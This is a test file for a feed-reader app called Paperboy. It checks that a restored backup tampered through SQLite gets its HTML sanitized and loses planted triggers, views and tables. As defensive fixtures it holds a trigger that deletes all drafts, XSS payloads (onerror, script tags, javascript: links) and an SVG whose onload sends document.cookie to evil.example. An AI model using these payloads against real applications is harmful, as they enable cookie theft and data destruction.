// A backup is a file from anywhere, and a restore used to trust it whole: a trigger planted in
// it ran inside Paperboy (marking an article read deleted every draft), and unsanitized HTML in
// it reached the reader. Real files: a data folder exported, the backup tampered with through
// SQLite as an attacker would, restored, and opened as the app opens it.
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { restoreDataFolder } from '../../electron/core';
import { Core } from '../../electron/core/core';
import { safeDrawing, SVG_TYPE } from '../../electron/core/articles';
import { BackupError } from '../../electron/core/backup/format';
import { Sqlite } from '../../electron/core/storage/sqlite';
import { item } from '../storage/items';
import { removeTempDirs, tempDir } from '../support/temp';

afterAll(removeTempDirs);

const HASH = 'ab'.repeat(32);
const GOOD_HTML = `<p>Ministers met in Brussels.</p><figure><img src="paperboy-cache://${HASH}" alt="The summit" width="640" height="480" /></figure><p><img data-original-src="https://example.com/late.png" alt="Not cached" /></p><p><a href="https://example.com/more" rel="noopener noreferrer">More</a></p><p>As noted<a href="#pb-note" rel="noopener noreferrer">1</a>.</p><p id="pb-note">The note.</p>`;

/** A data folder with an article (its body as Paperboy stores it) and a draft, exported. */
async function exported(): Promise<{ backup: string; articleId: string }> {
  const dataDir = tempDir();
  const core = new Core({ dataDir, workers: 1, welcome: false });
  const article = item({ title: 'Summit in Brussels' });
  try {
    const feedId = core.storage.feeds.add({ url: 'http://127.0.0.1:9/world.xml', title: 'World', siteUrl: null, description: null, folderId: null });
    core.storage.articles.upsertFeedItems(feedId, [article]);
    core.storage.articles.saveContent(article.id, { html: GOOD_HTML, text: 'Ministers met in Brussels.', source: 'page', lang: 'en', dir: 'ltr', state: 'done', error: null, leadImageHash: null, images: [] });
    await core.api.saveDraft({ articleId: article.id, body: 'My reply, kept in the backup.', name: 'Jo' });
    const backup = path.join(tempDir(), 'all.paperboy-backup');
    await core.exportData(backup);
    return { backup, articleId: article.id };
  } finally {
    await core.close();
  }
}

function tamper(backup: string, sql: string): void {
  const db = new Sqlite(backup);
  db.exec(sql);
  db.close();
}

async function restored(backup: string) {
  const dataDir = path.join(tempDir(), 'data');
  restoreDataFolder(dataDir, backup);
  const core = new Core({ dataDir, workers: 1, welcome: false });
  return { core, dataDir };
}

describe('a restored backup', () => {
  it('loses what the migrations did not make: a planted trigger no longer deletes the drafts, a planted view and table are gone', async () => {
    const { backup, articleId } = await exported();
    tamper(backup, `
      CREATE TRIGGER wipe_drafts AFTER UPDATE ON article_status BEGIN DELETE FROM drafts; END;
      DROP TRIGGER articles_fts_delete;
      CREATE TRIGGER articles_fts_delete AFTER DELETE ON articles BEGIN DELETE FROM drafts; DELETE FROM articles_fts WHERE rowid = old.rid; END;
      CREATE VIEW watching AS SELECT body FROM drafts;
      CREATE TABLE exfiltrate (data TEXT);`);
    const { core, dataDir } = await restored(backup);
    try {
      await core.api.setRead([articleId], true);
      expect((await core.api.getDrafts()).map((d) => d.body)).toEqual(['My reply, kept in the backup.']);
      const db = new Sqlite(path.join(dataDir, 'paperboy.db'), { readonly: true });
      const names = db.all<{ name: string }>('SELECT name FROM sqlite_schema').map((row) => row.name);
      const ownTrigger = db.value<string>("SELECT sql FROM sqlite_schema WHERE name = 'articles_fts_delete'");
      db.close();
      expect(names.filter((name) => ['wipe_drafts', 'watching', 'exfiltrate'].includes(name))).toEqual([]);
      expect(ownTrigger).not.toContain('drafts');
    } finally {
      await core.close();
    }
  });

  it("is refused when one of Paperboy's own tables is not what the migrations make", async () => {
    const { backup } = await exported();
    tamper(backup, 'DROP TABLE drafts; CREATE TABLE drafts (id INTEGER PRIMARY KEY, body TEXT);');
    const dataDir = path.join(tempDir(), 'data');
    expect(() => restoreDataFolder(dataDir, backup)).toThrow(BackupError);
    expect(existsSync(path.join(dataDir, 'paperboy.db'))).toBe(false);
    expect(() => restoreDataFolder(dataDir, backup)).toThrow(/is not a sound Paperboy backup: its table drafts is not the one Paperboy makes/);
  });

  it('has its stored HTML sanitized again; HTML as Paperboy stores it comes back unchanged', async () => {
    const { backup, articleId } = await exported();
    const hostile = `${GOOD_HTML}<img src="https://tracker.example/pixel.gif" onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">click</a><iframe src="https://evil.example/"></iframe><p><a href="#pb-gone">A link to nothing</a> and <a href="/about">a relative one</a></p>`;
    // Marked sanitized (raw_base NULL), as an offline copy is: such a row is sanitized at restore.
    tamper(backup, `UPDATE article_content SET html = '${hostile.replaceAll("'", "''")}', raw_base = NULL`);
    const { core } = await restored(backup);
    try {
      const html = (await core.api.getArticle(articleId))!.html;
      expect(html.startsWith(GOOD_HTML)).toBe(true);
      expect(html).not.toMatch(/<script|onerror|javascript:|<iframe|\ssrc="https:\/\/tracker/);
      // The remote image keeps its address aside, never as a src the reader would load.
      expect(html).toContain('data-original-src="https://tracker.example/pixel.gif"');
      // A link to no place in the copy, or to none on the web, is its words alone: never a link
      // to the stand-in address the restore sanitizes against.
      expect(html).toContain('<p>A link to nothing and a relative one</p>');
      expect(html).not.toContain('.invalid');
    } finally {
      await core.close();
    }
  });

  it('cannot get hostile HTML to a page by marking it raw: a raw feed item is sanitized whenever it is read', async () => {
    const { backup, articleId } = await exported();
    const hostile = '<p>Ministers met.</p><img src="https://tracker.example/pixel.gif" onerror="alert(1)"><script>alert(2)</script>'
      + '<a href="javascript:alert(3)">click</a><a href="more.html">relative</a><svg><a href="x"><text>svg</text></a></svg>';
    for (const base of ['https://news.example/world/', 'javascript:alert(4)//', '']) {
      tamper(backup, `UPDATE article_content SET html = '${hostile.replaceAll("'", "''")}', raw_base = '${base.replaceAll("'", "''")}'`);
      const { core, dataDir } = await restored(backup);
      try {
        const html = (await core.api.getArticle(articleId))!.html;
        expect(html).toMatch(/^<p>Ministers met\.<\/p><img data-original-src="https:\/\/tracker\.example\/pixel\.gif" \/>/);
        expect(html).not.toMatch(/<script|onerror|javascript:|<svg|\ssrc=/);
        // A relative link resolves against a web base only.
        if (base.startsWith('https:')) expect(html).toContain('<a href="https://news.example/world/more.html" rel="noopener noreferrer">relative</a>');
        else expect(html).not.toContain('<a href');
        // Left raw by the restore (sanitizing it against the restore's stand-in base would break
        // its links): it is the reading that makes it safe.
        const db = new Sqlite(path.join(dataDir, 'paperboy.db'), { readonly: true });
        const row = db.one<{ html: string; raw_base: string }>('SELECT html, raw_base FROM article_content WHERE article_id = ?', [articleId]);
        db.close();
        expect(row).toEqual({ html: hostile, raw_base: base });
      } finally {
        await core.close();
      }
    }
  });

  it('brings back an SVG drawing only as Paperboy makes one safe: a planted one with script is left out', async () => {
    const { backup } = await exported();
    const honest = safeDrawing(Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect width="40" height="20" fill="#264653"/></svg>'), SVG_TYPE);
    const planted = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"><script>alert(1)</script><rect width="40" height="20"/></svg>');
    const rows = [honest as Uint8Array, planted].map((bytes) => ({ bytes: Buffer.from(bytes), hash: createHash('sha256').update(bytes).digest('hex') }));
    const db = new Sqlite(backup);
    for (const { bytes, hash } of rows) {
      db.run('INSERT INTO backup_images (hash, bytes) VALUES (?, ?)', [hash, bytes]);
      db.run('INSERT INTO images (hash, mime, size, created_at) VALUES (?, ?, ?, ?)', [hash, SVG_TYPE, bytes.length, Date.now()]);
    }
    db.close();
    const { core } = await restored(backup);
    try {
      const [kept, left] = rows.map((row) => core.cachedImage(row.hash));
      expect(kept).toMatchObject({ mime: SVG_TYPE });
      expect(existsSync(kept!.file)).toBe(true);
      // Its record may stay; no file is there to serve (and the next sync fetches what shows it).
      expect(existsSync(left?.file ?? core.images.path(rows[1]!.hash))).toBe(false);
    } finally {
      await core.close();
    }
  });

  it('has its search index made again from the rows: an index emptied in the file finds the article again', async () => {
    const { backup, articleId } = await exported();
    // The index holds only words pointing at rows; one from a file could point a search anywhere.
    tamper(backup, "INSERT INTO articles_fts(articles_fts) VALUES('delete-all')");
    const { core } = await restored(backup);
    try {
      expect(core.storage.search('Brussels').map((hit) => hit.id)).toEqual([articleId]);
    } finally {
      await core.close();
    }
  });
});
